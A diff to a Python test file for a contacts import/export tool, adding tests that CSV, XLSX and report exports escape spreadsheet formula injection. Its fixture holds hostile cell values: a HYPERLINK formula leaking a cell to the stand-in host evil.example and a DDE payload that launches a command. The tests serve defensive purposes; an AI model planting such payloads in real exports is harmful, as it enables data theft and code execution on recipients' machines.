@@ -216,7 +216,7 @@ def test_contacts_import_validates_types_and_feeds_the_baseline(
     assert "bad.csv, row 3, column 'date'" in result.err
     assert "bad.csv, row 3, column 'org_type'" in result.err
     assert "bad.csv, row 3, column 'channel'" in result.err
-    assert seeded.ok("export", "contacts").out.strip() == header
+    assert seeded.ok("export", "contacts").out.lstrip("\ufeff").strip() == header + ",ref"
 
     path = tmp_path / "contacts.csv"
     path.write_text("\n".join([header, *good]) + "\n")
@@ -250,3 +250,76 @@ def test_contacts_import_validates_types_and_feeds_the_baseline(
     # The directory learned the organisations the file named.
     organisations = seeded.ok("export", "organisations").out
     assert "Leeds City Council,Local Government,Sub national organisations" in organisations
+
+
+HOSTILE_CONTACTS = [
+    {
+        "date": "2015-03-02",
+        "name": '=HYPERLINK("http://evil.example/?d="&A1,"Jane Smith")',
+        "email": "jane@leeds.gov.uk",
+        "organisation": "Leeds City Council",
+        "channel": "inbox",
+        "summary": "@SUM(1+1)*cmd|' /C calc'!A0 ethnicity question",
+    },
+    {
+        "date": "2015-03-03",
+        "name": "+44 20 7946 0000",
+        "email": "",
+        "organisation": "-Ethnicity Ltd",
+        "channel": "chat",
+        "summary": "\t=1+1 what about in Scotland?",
+    },
+    {
+        "date": "2015-03-04",
+        "name": "'Tis Ann",
+        "email": "ann@nhs.net",
+        "organisation": "NHS Leeds",
+        "channel": "phone",
+        "summary": "Costs £1,200 – asked about the disability standard",
+    },
+]
+
+
+def test_hostile_names_and_subjects_export_as_text_and_import_back_unchanged(
+    seeded: Cli, tmp_path: Path
+) -> None:
+    source = _write_csv(tmp_path / "hostile.csv", HOSTILE_CONTACTS)
+    assert "3 added" in seeded.ok("import", "contacts", str(source)).out
+
+    exported = tmp_path / "contacts.csv"
+    seeded.ok("export", "contacts", "-o", str(exported))
+    raw = exported.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf") and "£1,200 –".encode() in raw
+    cells = [c for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"))) for c in row]
+    assert '\'=HYPERLINK("http://evil.example/?d="&A1,"Jane Smith")' in cells
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0 ethnicity question" in cells
+    assert "'+44 20 7946 0000" in cells and "'-Ethnicity Ltd" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+    workbook = tmp_path / "contacts.xlsx"
+    seeded.ok("export", "contacts", "-o", str(workbook))
+    sheet = load_workbook(workbook).active
+    assert sheet is not None
+    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+    assert sheet["B2"].value == HOSTILE_CONTACTS[0]["name"]
+
+    for path in (exported, workbook):
+        assert "0 added" in seeded.ok("import", "contacts", str(path)).out
+    again = tmp_path / "again.csv"
+    seeded.ok("export", "contacts", "-o", str(again))
+    assert again.read_bytes() == raw
+
+
+def test_report_csvs_escape_hostile_organisation_names(seeded: Cli, tmp_path: Path) -> None:
+    source = _write_csv(tmp_path / "hostile.csv", HOSTILE_CONTACTS)
+    seeded.ok("import", "contacts", str(source))
+    printed = seeded.ok("report", "baseline", "--csv", "--by", "organisation").out
+    rows = list(csv.reader(io.StringIO(printed)))
+    assert rows[0] == ["group", "count", "baseline", "change"]
+    # A negative number stays a number; a name that starts like one does not.
+    assert ["'-Ethnicity Ltd", "1", "4.1", "-3.1"] in rows
+    written = tmp_path / "by-organisation.csv"
+    seeded.ok("report", "baseline", "--by", "organisation", "-o", str(written))
+    content = written.read_bytes()
+    assert content.startswith(b"\xef\xbb\xbf") and b"\n'-Ethnicity Ltd,1," in content
